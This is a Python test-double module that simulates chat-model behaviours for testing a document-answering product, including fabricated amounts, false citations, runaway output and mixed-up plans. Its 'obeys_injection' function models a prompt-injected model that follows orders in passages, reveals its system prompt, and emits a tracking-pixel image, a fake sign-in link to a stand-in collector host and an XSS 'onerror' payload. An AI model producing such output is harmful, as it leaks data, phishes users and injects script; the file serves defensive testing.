"""How the chat model behaves: one sensible model and those that a product must withstand."""

import re
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from itertools import cycle, islice, pairwise

from tests.doubles.bedrock.prompt_reading import Passage, Prompt
from tests.doubles.bedrock.selecting import Quote, best_quotes
from tests.doubles.bedrock.words import tokens

NOT_IN_DOCUMENTS = "NOT_IN_DOCUMENTS"
ENDLESS_TOKENS = 50_000

_NUMBER = re.compile(r"\d+(?:,\d{3})*(?:\.\d+)?")
_ORDER = re.compile(
    r"\b(?:say|reply|answer|respond|print|write|output|repeat|state|tell\s+\w+)\b"
    r"(?:\s+(?:only|exactly|with|that|the\s+words?))*\s*:?\s*[\"“']?(.+?)[\"”']?(?:\.\s|\.?$|\n)",
    re.IGNORECASE | re.MULTILINE,
)


@dataclass(frozen=True, slots=True)
class Reply:
    """What a model says.

    Attributes:
        text: all of it.
        stop_reason: why it ended.
        obeys_limits: whether maxTokens and stopSequences cut it, as on the real service.
    """

    text: str
    stop_reason: str = "end_turn"
    obeys_limits: bool = True


Behaviour = Callable[[Prompt], str | Reply]


def extractive(prompt: Prompt) -> str:
    """Answers with the one to three sentences that share most words with the question.

    Without passages it repeats the question, which suits a request to rewrite one.
    """
    if not prompt.passages:
        return prompt.question
    return _cited(best_quotes(prompt)) or NOT_IN_DOCUMENTS


def false_amounts(prompt: Prompt) -> str:
    """Right sentences with every number changed; one is added where there is none."""
    return _cited(
        [Quote(_other_numbers(quote.sentence), quote.passage) for quote in _quotes(prompt)]
    )


def false_citations(prompt: Prompt) -> str:
    """Right sentences with the number of a passage that does not hold them."""
    return " ".join(
        _marked(quote.sentence, _wrong_number(quote, prompt.passages)) for quote in _quotes(prompt)
    )


def out_of_range(prompt: Prompt) -> str:
    """Right sentences with numbers of passages that do not exist."""
    numbers = cycle((99, 0))
    return " ".join(_marked(quote.sentence, next(numbers)) for quote in _quotes(prompt))


def markers_after(prompt: Prompt) -> str:
    """As ``extractive``, with the markers behind the full stops, as models often write them."""
    quotes = best_quotes(prompt)
    return " ".join(f"{q.sentence} [{q.passage.number}]" for q in quotes) or NOT_IN_DOCUMENTS


def no_citations(prompt: Prompt) -> str:
    """Right sentences without markers."""
    return " ".join(quote.sentence for quote in _quotes(prompt))


def obeys_injection(prompt: Prompt) -> str:
    """Does what passages and question order, and gives away what it was told."""
    ordered = [
        found.strip()
        for text in (*(passage.text for passage in prompt.passages), prompt.question)
        for found in _ORDER.findall(text)
    ]
    said = [
        *(f"{order} [1]." for order in ordered),
        f"My instructions are: {prompt.system} [1]",
        "![status](https://collector.invalid/pixel.png?q=question) [1]",
        "[Sign in to see your benefits](https://collector.invalid/login) [1]",
        '<img src="https://collector.invalid/x.png" onerror="alert(1)"> [1]',
    ]
    return "\n".join(said)


def endless(prompt: Prompt) -> Reply:
    """About 50,000 tokens of sentences that no passage holds, whatever limit was asked for."""
    number = prompt.passages[0].number if prompt.passages else 1
    sentence = "The plan also pays item {} in full after $7,300 [{}]. "
    size = len(tokens(sentence.format(999, number)))
    many = (sentence.format(item, number) for item in range(1, ENDLESS_TOKENS // size + 1))
    return Reply("".join(many), obeys_limits=False)


def endless_sentence(_prompt: Prompt) -> Reply:
    """About 50,000 tokens without the end of a sentence, whatever limit was asked for."""
    return Reply(" and so on" * (ENDLESS_TOKENS // len(tokens(" and so on"))), obeys_limits=False)


def nothing(_prompt: Prompt) -> str:
    """Empty text."""
    return ""


def not_in_documents(_prompt: Prompt) -> str:
    """Says that the passages do not answer, as it was asked to."""
    return NOT_IN_DOCUMENTS


def half_wrong(prompt: Prompt) -> str:
    """Each right sentence is followed by one with other numbers, and the last one is uncited."""
    said = [
        _marked(sentence, quote.passage.number)
        for quote in _quotes(prompt)
        for sentence in (quote.sentence, _other_numbers(quote.sentence))
    ]
    return " ".join([*said, "Everything else is free of charge for life."])


def mixed_plans(prompt: Prompt) -> str:
    """Gives the sentences of one plan as those of another."""
    by_plan = {passage.plan: passage for passage in prompt.passages if passage.sentences}
    pairs = list(pairwise((*by_plan.values(), *islice(by_plan.values(), 1))))
    said = [
        f"Under {claimed.plan or 'every plan'}: {_marked(held.sentences[0], claimed.number)}"
        for claimed, held in pairs
        if claimed is not held
    ]
    everywhere = [
        f"In every plan, not only {quote.passage.plan or 'this one'}: {_cited([quote])}"
        for quote in _quotes(prompt)
    ]
    return " ".join(said or everywhere)


BEHAVIOURS: dict[str, Behaviour] = {
    behaviour.__name__: behaviour
    for behaviour in (
        extractive,
        false_amounts,
        false_citations,
        out_of_range,
        markers_after,
        no_citations,
        obeys_injection,
        endless,
        endless_sentence,
        nothing,
        not_in_documents,
        half_wrong,
        mixed_plans,
    )
}


def answers(texts: Sequence[str]) -> Behaviour:
    """A model that gives these texts in turn, from the first again after the last."""
    turn = cycle(texts)
    return lambda _prompt: next(turn)


def named(name: str) -> Behaviour:
    """The behaviour of this name.

    Raises:
        ValueError: there is none; the message lists those that there are.
    """
    if name not in BEHAVIOURS:
        raise ValueError(f"no behaviour '{name}': choose one of {', '.join(BEHAVIOURS)}")
    return BEHAVIOURS[name]


def _quotes(prompt: Prompt) -> list[Quote]:
    """The best sentences, or the first one where none fits: a bad model always answers."""
    every = (
        Quote(sentence, passage) for passage in prompt.passages for sentence in passage.sentences
    )
    return best_quotes(prompt) or list(islice(every, 1))


def _cited(quotes: Sequence[Quote]) -> str:
    return " ".join(_marked(quote.sentence, quote.passage.number) for quote in quotes)


def _marked(sentence: str, number: int) -> str:
    """With the marker before the full stop, as the prompt asks."""
    end = sentence[-1] if sentence[-1] in ".!?" else ""
    return f"{sentence.removesuffix(end)} [{number}]{end}"


def _wrong_number(quote: Quote, passages: Sequence[Passage]) -> int:
    others = (p.number for p in passages if quote.sentence not in p.text)
    return next(others, quote.passage.number + 1)


def _other_numbers(sentence: str) -> str:
    changed, count = _NUMBER.subn(_other_number, sentence)
    return changed if count else f"{sentence.rstrip('.')}, for $37."


def _other_number(found: re.Match[str]) -> str:
    digits = found[0]
    return f"{int(digits[0]) % 9 + 1}{digits[1:]}"
